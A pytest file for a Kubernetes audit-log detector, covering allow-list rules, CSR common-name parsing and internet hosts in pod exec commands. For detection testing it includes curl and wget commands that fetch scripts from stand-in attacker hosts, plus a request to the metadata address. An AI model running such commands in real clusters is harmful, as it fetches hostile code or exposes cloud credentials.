"""Site allow-lists (users, images, namespaces, nodes): set once in the
configuration, each inactive until set, and the derived values the
"disallowed ..." rules read; plus the other derived values the new rules use
(CSR common names, internet hosts in exec commands, bootstrap tokens)."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from exporter.detect import DetectionSettings, Detector, RuleError, load_rules
from exporter.detect.paths import control_plane, csr_common_names, exec_internet_hosts
from exporter.detect.settings import allowed_image
from tests.detect_helpers import event


def test_allow_lists_are_read_from_the_detect_section_and_located() -> None:
    s = DetectionSettings.from_config(
        {"allowed_users": ["alice", "group:sre"], "allowed_images": "registry.example.com/"}
    )
    assert s.allowed_users == ("alice", "group:sre")
    assert s.allowed_images == ("registry.example.com/",)
    assert s.is_set("allowed_users") and not s.is_set("allowed_nodes")
    with pytest.raises(RuleError) as e:
        DetectionSettings.from_config(
            {"allowed_nodes": [""], "allowed_namespaces": 3}, source="c.yaml"
        )
    assert "c.yaml: detect.allowed_nodes[0]: must be a non-empty string" in e.value.problems
    assert "c.yaml: detect.allowed_namespaces: must be a list of strings" in e.value.problems


def test_the_configuration_carries_the_allow_lists(tmp_path: Path) -> None:
    from exporter.config import detection_settings, load

    path = tmp_path / "c.yaml"
    path.write_text("detect:\n  allowed_images: [quay.io/]\n  allowed_nodes: ['worker-*']\n")
    env = {"KUBE_AUDIT_CONFIG_FILE": str(path), "KUBE_AUDIT_DETECT_ALLOWED_USERS": "alice,bob"}
    settings = detection_settings(load(None, env))
    assert settings.allowed_images == ("quay.io/",)
    assert settings.allowed_nodes == ("worker-*",)
    assert settings.allowed_users == ("alice", "bob")


@pytest.mark.parametrize(
    ("image", "allowed"),
    [
        ("registry.example.com/shop/web:1.2", True),
        ("registry.example.com", True),
        ("registry.example.com.evil.io/x", False),
        ("nginx:1.27", True),  # docker.io/library/nginx:1.27 matches the glob
        ("nginx:latest", False),
        ("library/nginx:1.26", True),
        ("ghcr.io/example/agent@sha256:00", True),
        ("ghcr.io/other/agent", False),
    ],
)
def test_image_allow_list(image: str, allowed: bool) -> None:
    patterns = ("registry.example.com/", "docker.io/library/nginx:1.*", "ghcr.io/example/*")
    assert allowed_image(image, patterns) is allowed


def test_disallowed_rules_fire_only_once_configured() -> None:
    ruleset = load_rules(None)
    off = Detector(ruleset, DetectionSettings())
    assert off.inactive["disallowed-user"] == "needs detect.allowed_users"
    settings = DetectionSettings(
        allowed_users=("alice", "group:sre"),
        allowed_images=("registry.example.com/",),
        allowed_namespaces=("team-*",),
        allowed_nodes=("worker-*",),
    )
    det = Detector(ruleset, settings)
    cases = [
        (
            event(verb="get", user={"username": "mallory"}, objectRef={"resource": "pods"}),
            "disallowed-user",
            True,
        ),
        (
            event(
                verb="get",
                user={"username": "dora", "groups": ["sre"]},
                objectRef={"resource": "pods"},
            ),
            "disallowed-user",
            False,
        ),
        (
            event(
                verb="create",
                user={"username": "alice"},
                objectRef={"resource": "namespaces"},
                requestObject={"kind": "Namespace", "metadata": {"name": "miner"}},
            ),
            "disallowed-namespace-created",
            True,
        ),
        (
            event(
                verb="create",
                user={"username": "alice"},
                objectRef={"resource": "namespaces", "name": "team-a"},
            ),
            "disallowed-namespace-created",
            False,
        ),
        (
            event(
                verb="create",
                user={"username": "system:node:gpu-1"},
                objectRef={"resource": "nodes", "name": "gpu-1"},
            ),
            "disallowed-node-joined",
            True,
        ),
        (
            event(
                verb="create",
                user={"username": "system:node:worker-2"},
                objectRef={"resource": "nodes", "name": "worker-2"},
            ),
            "disallowed-node-joined",
            False,
        ),
        (
            event(
                verb="create",
                user={"username": "alice"},
                objectRef={"resource": "pods", "namespace": "shop", "name": "p"},
                requestObject={
                    "spec": {
                        "initContainers": [{"image": "evil.io/x"}],
                        "containers": [{"image": "registry.example.com/a"}],
                    }
                },
            ),
            "disallowed-image",
            True,
        ),
        (
            event(
                verb="create",
                user={"username": "alice"},
                objectRef={"resource": "pods", "namespace": "shop", "name": "p"},
                requestObject={"spec": {"containers": [{"image": "registry.example.com/a"}]}},
            ),
            "disallowed-image",
            False,
        ),
    ]
    for ev, rule, expected in cases:
        det([ev])
        assert (rule in ev.rules) is expected, (rule, ev.obj.get("objectRef"))


def _csr(der_b64: str) -> object:
    return event(
        verb="create",
        user={"username": "x"},
        objectRef={"resource": "certificatesigningrequests"},
        requestObject={"spec": {"request": der_b64}},
    )


def test_csr_common_names_and_bad_requests() -> None:
    kcm = (
        "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlHb01Gd0NBUUF3S1RFbk1DVUdBMVVFQXd3"
        "ZWMzbHpkR1Z0T210MVltVXRZMjl1ZEhKdmJHeGxjaTF0WVc1aApaMlZ5TUNvd0JRWURLMlZ3QXlFQWo5L3JN"
        "b3ppMFJSMDdoaXFvV0VVOUU4UjFtalNHSWUwcy9hUm0xM0FvSUNnCkFEQUZCZ01yWlhBRFFRQTlreG5aZkk2"
        "NVNFVVJXalRXN09OQ1E1TzV4QUlpTzR2TkVjc1lKcEY1TEtseG5OVlkKZWFpenN2L1V0c0l0anNwbFJ1Q0xY"
        "RHI4TDY1TEQwSkxJeUlDCi0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo="
    )
    assert csr_common_names(_csr(kcm)) == ["system:kube-controller-manager"]  # type: ignore[arg-type]
    garbage = base64.b64encode(b"-----BEGIN X-----\nAAAA\n-----END X-----\n").decode()
    assert csr_common_names(_csr(garbage)) == []  # type: ignore[arg-type]
    assert csr_common_names(_csr("%%%")) == []  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("curl -s https://evil.example.com/x.sh", ["evil.example.com"]),
        ("wget http://203.0.113.9:8080/m", ["203.0.113.9"]),
        ("curl http://[2001:db8::1]/x", ["2001:db8::1"]),
        ("curl http://web:8080/healthz", []),
        ("curl http://web.shop.svc.cluster.local/", []),
        ("curl http://10.1.2.3/ http://localhost/ http://169.254.169.254/", []),
        ("curl http://metadata.internal/", []),
    ],
)
def test_internet_hosts_in_exec_commands(command: str, hosts: list[str]) -> None:
    from urllib.parse import quote

    ev = event(
        verb="create",
        user={"username": "a"},
        objectRef={"resource": "pods", "subresource": "exec", "namespace": "s", "name": "p"},
        requestURI="/api/v1/namespaces/s/pods/p/exec?"
        + "&".join("command=" + quote(part, safe="") for part in command.split(" ")),
    )
    assert exec_internet_hosts(ev) == hosts  # type: ignore[arg-type]


def test_bootstrap_tokens_are_not_the_control_plane() -> None:
    boot = event(
        verb="create", user={"username": "system:bootstrap:abcdef"}, objectRef={"resource": "nodes"}
    )
    kcm = event(
        verb="create",
        user={"username": "system:kube-controller-manager"},
        objectRef={"resource": "nodes"},
    )
    assert control_plane(boot) == [False]  # type: ignore[arg-type]
    assert control_plane(kcm) == [True]  # type: ignore[arg-type]
